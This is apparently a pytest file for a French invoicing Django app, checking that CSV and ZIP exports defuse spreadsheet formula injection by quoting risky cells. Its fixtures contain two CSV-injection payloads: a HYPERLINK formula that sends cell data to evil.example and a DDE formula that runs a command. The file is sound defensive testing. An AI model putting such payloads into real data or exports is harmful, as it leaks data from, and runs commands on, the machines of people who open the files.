"""Exports never hand a spreadsheet a formula: text cells starting with = + - @ tab or CR are quoted (OWASP)."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from decimal import Decimal

import pytest
from django.utils import timezone

from facturier.core.csv_safety import csv_cell
from facturier.invoicing.credit_notes import issue_credit_note
from facturier.invoicing.tests.orders import ADDRESS, issue_invoice, market_order, order_line, sales_order
from facturier.portal.tests.helpers import logged_in
from facturier.sales.models import RefundRecord

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")'
DDE_TITLE = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile_documents(seller_a):
    billing = replace(ADDRESS, first_name=HYPERLINK, last_name="")
    raw = market_order("ORDER-CSV", [order_line("L1", "12.50", title=DDE_TITLE)],
                        billing=billing, delivery=billing)
    order = sales_order(seller_a, raw)
    invoice = issue_invoice(order)
    refund = RefundRecord.objects.create(
        seller=seller_a, order=order, marketplace_order_id=order.order_id, refund_id="R-1",
        kind="commercial_gesture", amount_gross=Decimal("12.50"), line_ids=[], refunded_at=timezone.now(),
    )
    credit_note = issue_credit_note(refund)
    return invoice, credit_note


def parsed(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


@pytest.mark.django_db
def test_the_lines_csv_quotes_formulas_and_keeps_amounts_numbers(seller_a, hostile_documents):
    response = logged_in(seller_a).get("/factures/lignes.csv")
    rows = parsed(b"".join(response.streaming_content).decode("utf-8-sig"))
    invoice_row, credit_row = sorted(rows, key=lambda row: row["Type"] != "Facture")
    assert invoice_row["Acheteur"] == "'" + HYPERLINK
    assert invoice_row["Désignation"] == "'" + DDE_TITLE
    assert invoice_row["Montant TTC"] == "12,50"
    assert credit_row["Acheteur"] == "'" + HYPERLINK
    assert (credit_row["Quantité"], credit_row["Montant HT"], credit_row["Montant TTC"]) == ("1", "10,42", "12,50")


@pytest.mark.django_db
def test_the_zip_index_quotes_formulas_and_keeps_amounts_numbers(seller_a, hostile_documents):
    response = logged_in(seller_a).get("/factures/archive.zip")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    rows = {row["Type"]: row for row in parsed(archive.read("index.csv").decode("utf-8-sig"))}
    assert rows["Facture"]["Acheteur"] == "'" + HYPERLINK
    assert rows["Facture"]["Total TTC"] == "12,50"
    assert rows["Avoir"]["Acheteur"] == "'" + HYPERLINK
    assert (rows["Avoir"]["Total HT"], rows["Avoir"]["Total TTC"]) == ("10,42", "12,50")


@pytest.mark.parametrize(("_case", "value", "expected"), [
    ("formula", "=1+1", "'=1+1"),
    ("plus", "+33 6 12", "'+33 6 12"),
    ("minus text", "-foo", "'-foo"),
    ("at", "@SUM(A1)", "'@SUM(A1)"),
    ("tab", "\t=1", "'\t=1"),
    ("carriage return", "\r=1", "'\r=1"),
    ("plain text", "Jeanne Martin", "Jeanne Martin"),
    ("empty", "", ""),
    ("negative decimal", Decimal("-12.50"), "-12.50"),
    ("positive decimal", Decimal("3"), "3"),
    ("integer", -2, "-2"),
])  # fmt: skip
def test_csv_cell(_case, value, expected):
    # Credit notes are stored with positive amounts (the type column says 'avoir'), so the negative numbers a
    # spreadsheet must still read as numbers are checked on the helper every CSV writer goes through.
    assert csv_cell(value) == expected
